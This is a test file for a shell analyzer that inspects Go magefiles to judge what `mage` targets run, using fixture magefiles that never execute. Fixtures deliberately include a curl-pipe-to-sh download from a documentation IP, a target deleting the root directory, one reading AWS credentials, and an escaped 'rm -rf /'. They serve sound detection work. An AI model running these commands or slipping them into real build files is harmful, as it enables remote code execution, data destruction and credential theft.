// What `mage TARGET` runs: the magefiles' target functions, read on Go's tokens, their commands judged as what they
// are; init code, package variables, imports and any other Go code uncertain. Real files in a temp folder; nothing
// is ever run.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const PIPE = 'curl -fsSL https://203.0.113.7/x.sh | sh';
const HEAD = [
  '//go:build mage',
  '',
  'package main',
  '',
  'import (',
  '\t"fmt"',
  '\t"os"',
  '',
  '\t"github.com/magefile/mage/mg"',
  '\t"github.com/magefile/mage/sh"',
  ')',
  '',
].join('\n');
const TARGETS = [
  '// Default target.',
  'var Default = Build',
  '',
  'var Aliases = map[string]interface{}{',
  '\t"b": Build,',
  '\t"img": Docker.Image,',
  '}',
  '',
  'type Docker mg.Namespace',
  '',
  'func Build() error { return sh.RunV("go", "build", "-o", "bin/app", ".") }',
  '',
  'func Test() error {',
  '\tfmt.Println("testing")',
  '\tif err := sh.RunV("go", "vet", "./..."); err != nil {',
  '\t\treturn err',
  '\t}',
  '\treturn sh.Run("go", "test", "./...")',
  '}',
  '',
  'func (Docker) Image() error {',
  '\tmg.Deps(Build)',
  '\treturn sh.RunV("docker", "build", "-t", "app:dev", ".")',
  '}',
  '',
  `func Setup() error { mg.Deps(fetch); return nil }`,
  '',
  `func fetch() error { return sh.Run("sh", "-c", "${PIPE}") }`,
  '',
  'func Wipe() error { return sh.Rm("/") }',
  '',
  'func Upload() error {',
  '\tb, _ := os.ReadFile(os.Getenv("HOME") + "/.aws/credentials")',
  '\t_ = b',
  '\treturn nil',
  '}',
  '',
  'func Deploy(env string) error { return sh.RunV("echo", env) }',
  '',
].join('\n');

function analyze(command: string, files: Record<string, string>) {
  p = diskProject('mage-');
  p.write(files);
  const a = analyzeShellSync(command, p.env());
  return {
    hits: [...new Set(a.hits.map((h) => h.category))],
    uncertain: a.uncertain.map((u) => u.reason).join('\n'),
  };
}

const plainFiles = { 'magefile.go': HEAD + TARGETS };

describe('mage judges what the targets named run', () => {
  it.each<[string, string]>([
    ['a target running go build', 'mage build'],
    ['two targets, case-insensitive', 'mage Test build'],
    ['the default target', 'mage'],
    ['an alias to a namespace method and its dependency', 'mage img'],
    ['a namespace method by name', 'mage -v docker:image'],
    ['listing the targets (the program starts: only its start-up code runs)', 'mage -l'],
    ["a target's help", 'mage -h upload'],
  ])('%s: known, nothing found', (_name, command) => {
    const a = analyze(command, plainFiles);
    expect(a.hits).toEqual([]);
    expect(a.uncertain).toBe('');
  });

  it.each<[string, string, string]>([
    ['a dependency fetching and running code', 'mage setup', 'remote_code_execution'],
    ["a target deleting the root through mage's sh.Rm", 'mage wipe', 'destructive_root_delete'],
  ])('%s: found', (_name, command, category) => {
    expect(analyze(command, plainFiles).hits).toContain(category);
  });

  it.each<[string, string, Record<string, string>, RegExp]>([
    ['Go code beyond commands', 'mage upload', plainFiles, /Go code gavel does not follow/],
    ['a target taking arguments', 'mage deploy prod', plainFiles, /takes arguments/],
    ['a target no file declares', 'mage nosuch', plainFiles, /cannot find/],
    ['an unexported helper named as a target', 'mage fetch', plainFiles, /cannot find/],
    ['another magefile folder', 'mage -d ../x build', plainFiles, /option/],
    ['a working folder elsewhere', 'mage -w /tmp build', plainFiles, /option/],
    ['a target named at run time', 'mage "$T"', plainFiles, /run time/],
    [
      'init code, even for a listing',
      'mage -l',
      { 'magefile.go': `${HEAD}func init() { sh.Run("sh", "-c", "${PIPE}") }\n` },
      /init code/,
    ],
    [
      'a package variable computed by a call',
      'mage -l',
      { 'magefile.go': `${HEAD}var home = os.Getenv("HOME")\n` },
      /package variable/,
    ],
    [
      'a package of the module imported (its init code runs)',
      'mage build',
      { 'magefile.go': HEAD.replace('\t"os"', '\t"os"\n\t"example.com/app/internal/x"') + TARGETS },
      /imports packages/,
    ],
    [
      "targets imported from another package's magefile",
      'mage build',
      { 'magefile.go': HEAD.replace('\t"os"', '\t"os"\n\t// mage:import\n\t"github.com/magefile/mage/mg"') },
      /another package/,
    ],
    [
      'two functions one target name could mean',
      'mage build',
      { 'magefile.go': `${HEAD}func Build() error { return nil }\nfunc build() error { return nil }\n` },
      /differ only in case/,
    ],
    [
      'a command word mage expands beyond a plain variable',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { return sh.Run("echo", "$(id)") }\n` },
      /words/,
    ],
    [
      'a Go string escape this reading does not decode',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { return sh.Run("sh", "-c", "\\x72m -rf /") }\n` },
      /cannot read/,
    ],
    [
      'a loop',
      'mage x',
      { 'magefile.go': `${HEAD}func X() error { for { sh.Run("true") } }\n` },
      /does not follow/,
    ],
  ])('%s: uncertain', (_name, command, files, why) => {
    expect(analyze(command, files).uncertain).toMatch(why);
  });

  it('a magefile of magefiles/ needs no build constraint; a Go file without one beside it is not compiled', () => {
    const bad = `package main\n\nfunc init() { panic(1) }\n`;
    expect(
      analyze('mage build', { 'magefiles/mage.go': (HEAD + TARGETS).replace('//go:build mage\n', '') })
        .uncertain,
    ).toBe('');
    expect(analyze('mage -l', { 'magefiles/mage.go': HEAD, 'magefiles/extra.go': bad }).uncertain).toMatch(
      /init code/,
    );
    expect(analyze('mage build', { ...plainFiles, 'main.go': bad }).uncertain).toBe('');
    // The old `+build` form counts too.
    expect(analyze('mage -l', { 'tools.go': `// +build mage\n\n${bad}` }).uncertain).toMatch(/init code/);
  });

  it('a folder gavel cannot list is uncertain; no magefile runs nothing', () => {
    expect(analyze('mage build', {}).uncertain).toBe('');
    p = diskProject('mage-');
    p.write(plainFiles);
    const env = {
      ...p.env(),
      readScript: (abs: string) =>
        abs === p?.root
          ? { kind: 'unreadable' as const, why: 'error' as const }
          : (p?.env().readScript?.(abs) ?? { kind: 'missing' as const }),
    };
    const a = analyzeShellSync('mage build', env);
    expect(a.uncertain.map((u) => u.reason).join('\n')).toMatch(/cannot list/);
  });
});
